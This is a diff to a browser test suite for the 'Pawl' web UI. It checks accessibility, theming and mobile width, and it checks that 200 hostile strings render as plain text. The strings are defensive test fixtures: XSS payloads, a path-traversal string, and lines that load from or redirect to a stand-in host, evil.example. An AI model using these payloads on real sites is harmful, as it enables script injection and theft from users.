@@ -1,87 +1,165 @@
-import type { Browser, Page } from 'playwright-core';
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+
+import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 
 import { Folder } from '../../../cli/tests/pawl.fixture.ts';
-import { showing, type Ui } from '../../../cli/tests/ui.fixture.ts';
-import { CHROMIUM, launch, problems, visit as visitAt } from './chromium.fixture.ts';
+import { CHROMIUM, Looking, NAME } from './browser.fixture.ts';
 
 /* The page, in a real browser, over a real journal. */
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core'), 'utf8');
 
 const REVIEW = `
 import { defineTask, type Context } from '@pawl/sdk';
 const draft = defineTask({ name: 'draft', run: (n: number) => 'draft ' + n });
-const publish = defineTask({ name: 'publish', run: (what: string) => 'published for ' + what });
 export async function process(_: unknown, ctx: Context) {
   await ctx.parallel.map([1, 2, 3], (n) => ctx.task(draft, n));
-  const { approved, feedback } = await ctx.breakpoint({ title: 'Publish?', question: 'May it go out?' });
-  return approved ? await ctx.task(publish, feedback ?? '') : 'no';
+  await ctx.breakpoint({ title: 'Publish?', question: 'May it go out?' });
 }
 `;
 
-/** Texts that would be more than text in some page, in every place that a user's text reaches. */
-const HOSTILE: readonly string[] = Array.from({ length: 50 }, (_, n) => {
-  const kinds = [
-    `<script>document.title='owned ${n}'</script>`,
-    `<img src=x onerror="document.title='owned ${n}'">`,
-    `"><svg onload=document.title='owned'>${n}`,
-    `javascript:document.title='owned ${n}'`,
-    `\u202E\u0000</title></textarea><iframe srcdoc="<script>top.document.title='owned'</script>">${n}`,
-  ];
-  return kinds[n % kinds.length] ?? '';
-});
+const FAILS = `
+import type { Context } from '@pawl/sdk';
+export async function process(_: unknown, ctx: Context) { throw new RangeError('no'); }
+`;
+
+/** Texts that would be more than text in some page, for every place that a user's text reaches. */
+const KINDS: readonly ((n: number) => string)[] = [
+  (n) => `<script>document.title='owned ${n}'</script>`,
+  (n) => `<img src=x onerror="document.title='owned ${n}'">`,
+  (n) => `"><svg onload=document.title='owned'>${n}`,
+  (n) => `javascript:document.title='owned ${n}'`,
+  (n) => `\u202E\u0000</title></textarea><iframe srcdoc="<script>top.document.title='owned'</script>">${n}`,
+  (n) => `' onmouseover='document.title=${n}`,
+  (n) => `<a href="javascript:top.document.title='owned'">${n}</a>`,
+  (n) => `<style>@import 'http://evil.example/${n}'</style>`,
+  (n) => `</script><script src=//evil.example/${n}></script>`,
+  (n) => `{{constructor.constructor('document.title=${n}')()}}`,
+  (n) => `<math><mtext><mglyph><style><img src=x onerror=document.title='owned'>${n}`,
+  (n) => `<details open ontoggle=document.title='owned'>${n}`,
+  (n) => `<base href="http://evil.example/${n}/">`,
+  (n) => `<meta http-equiv=refresh content="0;url=http://evil.example/${n}">`,
+  (n) => `<form action=//evil.example><button autofocus>${n}`,
+  (n) => `\uD800\u2028\u2029${n}<!--`,
+  (n) => `../../etc/passwd?${n}#"><object data=x>`,
+  (n) => `__proto__${n}`,
+  (n) => `data:text/html,<script>alert(${n})</script>`,
+  (n) => `\${document.title='owned'}\`${n}`,
+];
+const HOSTILE = Array.from({ length: 200 }, (_, n) => (KINDS[n % KINDS.length] ?? String)(n));
 
 const EVIL = `
 import { defineTask, type Context } from '@pawl/sdk';
 import { readFileSync } from 'node:fs';
 const texts: string[] = JSON.parse(readFileSync('hostile.json', 'utf8'));
-const tasks = texts.map((name) => defineTask({ name, run: () => name }));
+const tasks = texts.map((name, n) => defineTask({
+  name,
+  run: () => {
+    if (n < 40) throw Object.assign(new RangeError(name), { [name]: name });
+    return { [name]: name };
+  },
+}));
 export async function process(inputs: unknown, ctx: Context) {
-  for (const [n, task] of tasks.entries()) await ctx.task(task, { [texts[n]!]: texts });
-  ctx.setState('evil', texts[0]);
-  await ctx.breakpoint({ title: texts[1]!, question: texts[2]!, options: texts.slice(3, 6), context: texts });
+  await ctx.parallel.map(texts.map((_, n) => n), (n) => ctx.task(tasks[n]!, { [texts[n]!]: texts[n] }).catch(() => n));
+  for (const [n, text] of texts.slice(0, 40).entries()) ctx.setState('evil' + n, { [text]: text });
+  await ctx.breakpoint({ title: texts[1]!, question: texts[2]!, options: texts.slice(3, 60), tags: texts.slice(60, 70), context: texts });
 }
 `;
 
-describe.skipIf(CHROMIUM === undefined)('the page, in Chromium (none here: set PAWL_CHROMIUM)', () => {
+/** A path, and what is there once it is drawn. */
+const VIEWS: readonly (readonly [path: string, drawn: string])[] = [
+  ['/', '.run-row'],
+  ['/waiting', '.ask'],
+  ['/runs/evil', '.call'],
+  ['/runs/evil?tab=values', '.value'],
+  ['/runs/evil?tab=events', '.event'],
+];
+
+/** The same of a run that is no burden. */
+const PLAIN_VIEWS: typeof VIEWS = [
+  ['/', '.run-row'],
+  ['/waiting', '.ask'],
+  ['/runs/r1?call=0', '.panel .facts'],
+  ['/runs/r1?tab=values', '.value'],
+  ['/runs/r1?tab=events', '.event'],
+  ['/runs/f1', '.failure'],
+  ['/queue', 'h1'],
+];
+
+describe.skipIf(CHROMIUM === undefined)(`the page, ${NAME}`, () => {
   const folder = new Folder();
-  let browser: Browser;
-  let ui: Ui;
+  let looking: Looking;
 
   beforeAll(async () => {
     folder.write('review.ts', REVIEW);
     folder.write('evil.ts', EVIL);
+    folder.write('fails.ts', FAILS);
     folder.write('hostile.json', JSON.stringify(HOSTILE));
-    await folder.pawl('run', 'review.ts', '--id', 'r1');
-    await folder.pawl('run', 'evil.ts', '--id', 'evil', '--input', JSON.stringify({ all: HOSTILE }));
-    [browser, ui] = await Promise.all([launch(), showing(folder, [], { USER: 'ada' })]);
+    const evil = ['run', 'evil.ts', '--id', 'evil', '--input', JSON.stringify({ all: HOSTILE })];
+    await Promise.all([
+      folder.pawl('run', 'review.ts', '--id', 'r1'),
+      folder.pawl(...evil),
+      folder.pawl('run', 'fails.ts', '--id', 'f1'),
+    ]);
+    looking = await Looking.at(folder);
   });
 
   afterAll(async () => {
-    await browser?.close();
+    await looking?.close();
     folder[Symbol.dispose]();
   });
 
-  async function visit(path: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<Page> {
-    return await visitAt(browser, ui, path, options);
+  /** Within the page, as a link does it: no view is loaded from the beginning. */
+  async function go(page: Page, [path, drawn]: readonly [path: string, drawn: string]): Promise<void> {
+    await page.evaluate((to) => {
+      history.pushState(null, '', to);
+      dispatchEvent(new PopStateEvent('popstate'));
+    }, path);
+    await page.locator(drawn).first().waitFor();
   }
 
-  test.each(['light', 'dark'] as const)(
-    'every view is free of what axe finds, in %s',
-    async (colorScheme) => {
-      const page = await visit('/', { colorScheme, viewport: { width: 1280, height: 800 } });
-      const paths = ['/', '/waiting', '/runs/evil', '/runs/r1?call=0', '/runs/r1?tab=events', '/queue'];
-      for (const path of paths) {
-        await page.goto(new URL(path, ui.url).href);
-        await page.locator('h1').waitFor();
-        await page.waitForTimeout(150);
-        expect([path, await problems(page)]).toEqual([path, []]);
+  /** @param rules undefined: all of them */
+  async function problems(page: Page, rules: readonly string[] | undefined): Promise<string[]> {
+    return await page.evaluate(async (only) => {
+      interface Violation {
+        readonly id: string;
+        readonly nodes: readonly { readonly html: string }[];
       }
-      await page.context().close();
-    },
-  );
+      const chosen = only === undefined ? {} : { runOnly: { type: 'rule', values: only } };
+      const options = { resultTypes: ['violations'], preload: false, ...chosen };
+      const { axe } = globalThis as unknown as {
+        axe: { run(where: unknown, how: unknown): Promise<{ violations: Violation[] }> };
+      };
+      const { violations } = await axe.run(document, options);
+      return violations.map(
+        ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' ')}`,
+      );
+    }, rules);
+  }
+
+  // What does not depend on colours is looked at once.
+  test.each([
+    ['light', undefined],
+    ['dark', ['color-contrast']],
+  ] as const)('every view is free of what axe finds, in %s', async (colorScheme, rules) => {
+    await using page = await looking.visit('/', { colorScheme, viewport: { width: 1280, height: 800 } });
+    // The policy lets in no script of others: it is brought by the debugger, as a person's own tools would be.
+    await page.evaluate(AXE);
+    for (const view of PLAIN_VIEWS) {
+      await go(page, view);
+      expect([view[0], await problems(page, rules)]).toEqual([view[0], []]);
+    }
+    await go(page, ['/', '.run-row']);
+    await page.getByLabel('Select r1').click();
+    await page.getByRole('button', { name: /^Cancel/ }).click();
+    await page.getByRole('dialog').waitFor();
+    expect(['dialog', await problems(page, rules)]).toEqual(['dialog', []]);
+  });
 
   test('a switch turns light into dark, and the choice stays', async () => {
-    const page = await visit('/', { colorScheme: 'light' });
+    await using page = await looking.visit('/', { colorScheme: 'light' });
     const ground = (): Promise<string> => page.evaluate('getComputedStyle(document.body).backgroundColor');
     const light = await ground();
     await page.keyboard.press('t');
@@ -89,77 +167,35 @@ describe.skipIf(CHROMIUM === undefined)('the page, in Chromium (none here: set P
     expect(dark).not.toBe(light);
     await page.reload();
     expect(await ground()).toBe(dark);
-    await page.context().close();
   });
 
   test('nothing is wider than a telephone', async () => {
-    const page = await visit('/', { viewport: { width: 380, height: 760 } });
-    for (const path of ['/', '/waiting', '/runs/r1', '/runs/evil', '/runs/evil?tab=events', '/queue']) {
-      await page.goto(new URL(path, ui.url).href);
-      await page.locator('h1').waitFor();
-      await page.waitForTimeout(150);
-      expect([path, await page.evaluate('document.documentElement.scrollWidth')]).toEqual([path, 380]);
+    await using page = await looking.visit('/', { viewport: { width: 380, height: 760 } });
+    for (const view of VIEWS) {
+      await go(page, view);
+      expect([view[0], await page.evaluate('document.documentElement.scrollWidth')]).toEqual([view[0], 380]);
     }
-    await page.context().close();
   });
 
-  test('what users wrote is text in every view', async () => {
-    const page = await visit('/runs/evil');
-    const paths = [
-      '/',
-      '/waiting',
-      '/runs/evil',
-      '/runs/evil?call=0',
-      '/runs/evil?tab=values',
-      '/runs/evil?tab=events',
-    ];
-    for (const path of paths) {
-      await page.goto(new URL(path, ui.url).href);
-      await page.locator('h1').waitFor();
+  test('of 200 hostile texts in every field none is more than text', async () => {
+    await using page = await looking.visit('/runs/evil');
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(new URL(request.url()).origin));
+    for (const view of [...VIEWS, ['/runs/evil?call=0/7/0&all=1', '.panel .value'] as const]) {
+      await go(page, view);
+      const more = page.getByRole('button', { name: /^… .* more$|^Show all/ });
+      for (let n = await more.count(); n > 0; n -= 1) await more.first().click();
       await page.evaluate(`document.querySelectorAll('details').forEach((each) => (each.open = true))`);
-      await page.waitForTimeout(200);
       expect(await page.evaluate('document.title')).toBe('Pawl');
       // The page's own: one script, and no picture or frame.
-      expect(await page.evaluate(`document.querySelectorAll('script').length`)).toBe(1);
-      expect(
-        await page.evaluate(`document.querySelectorAll('img, iframe, svg[onload], [onerror]').length`),
-      ).toBe(0);
+      const found = `document.querySelectorAll('script:not([src^="/assets/"]), img, iframe, object, base, style, [onload], [onerror], [onmouseover], [ontoggle], meta[http-equiv]').length`;
+      expect([view[0], await page.evaluate(found)]).toEqual([view[0], 0]);
       expect(
         await page.evaluate(`[...document.querySelectorAll('a')].every((a) => a.protocol === 'http:')`),
       ).toBe(true);
     }
+    await go(page, ['/runs/evil?tab=values', '.value']);
     expect(await page.locator('body').innerText()).toContain('<script>');
-    await page.context().close();
-  });
-
-  test('by keyboard alone a person finds the question, approves it, and sees the run end', async () => {
-    const page = await visit('/');
-    await page.locator('[data-row]').first().waitFor();
-    await page.keyboard.press('/');
-    await page.keyboard.type('review');
-    await page.locator('a.run-row').nth(1).waitFor({ state: 'detached' });
-    // Until it is found the list is empty.
-    const row = page.locator('a.run-row', { hasText: 'r1' });
-    await row.waitFor();
-    await page.keyboard.press('Escape');
-    await page.keyboard.press('j');
-    await page.waitForFunction(`document.activeElement?.matches('a.run-row') === true`);
-    await page.keyboard.press('Enter');
-    await page.getByText('May it go out?', { exact: true }).waitFor();
-    expect(page.url()).toContain('/runs/r1');
-    await page.getByLabel('Feedback').fill('well done');
-    await page.getByRole('button', { name: 'Approve', exact: true }).focus();
-    await page.keyboard.press('Enter');
-    await page.getByText('Answered; the run takes it').waitFor();
-    expect((await folder.pawl('resume', 'r1')).stdout).toContain('published for well done');
-    await page.locator('.run-head .badge', { hasText: 'succeeded' }).waitFor();
-    await page.getByText('It is done').waitFor();
-    expect(await page.locator('.call .label bdi').allInnerTexts()).toContain('publish');
-    await page.keyboard.press('?');
-    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
-    await page.keyboard.press('Escape');
-    await page.keyboard.press('Escape');
-    await page.locator('h1', { hasText: 'Runs' }).waitFor();
-    await page.context().close();
+    expect(new Set(requests)).toEqual(new Set([new URL(looking.ui.url).origin]));
   });
 });
